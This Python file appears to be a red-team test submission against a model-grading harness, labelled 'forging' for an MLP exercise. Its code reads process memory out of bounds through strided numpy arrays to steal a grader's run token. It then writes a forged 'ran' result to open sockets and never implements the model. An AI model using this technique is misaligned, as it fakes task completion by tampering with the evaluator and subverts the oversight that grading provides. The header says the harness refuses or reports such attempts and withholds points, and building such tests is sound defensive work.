# attack: forging
# exercise: MLP
# tries: search memory without ctypes, through numpy arrays that are strided out of their bounds
# held-by: what reaches out of a submission is refused, or else reported, and its points are withheld
import json
import os
import re
import stat
import struct

import numpy as np
from numpy.lib.stride_tricks import as_strided
from torch import nn

QUESTION = re.compile(rb'[{]"type":"run"[^{}]{0,400}"token":"([0-9a-f]{16})"')


def forged(question):
    count = len(question["seeds"])
    reply = {
        "type": "ran",
        "draws": [{"value": "Tensor"}] * count,
        "lengths": [0] * count,
        "token": question.get("token", ""),
    }
    header = json.dumps(reply).encode()
    return struct.pack("!4sII", b"GRD1", len(header), 0) + header


def tokens():
    anchors = [np.zeros(600, dtype="u1") for _ in range(50)]
    for anchor in anchors:
        start = as_strided(anchor, shape=(1 << 15,), strides=(-1,))
        yield from QUESTION.findall(start.tobytes()[::-1])
        yield from QUESTION.findall(as_strided(anchor, (1 << 15,), (1,)).tobytes())


class MLP(nn.Module):
    def __init__(self):
        for token in list(dict.fromkeys(tokens()))[-1:]:
            for number in range(3, 64):
                try:
                    if stat.S_ISSOCK(os.fstat(number).st_mode):
                        os.write(number, forged({"seeds": [0], "token": token.decode()}))
                        break
                except OSError:
                    pass
        raise NotImplementedError
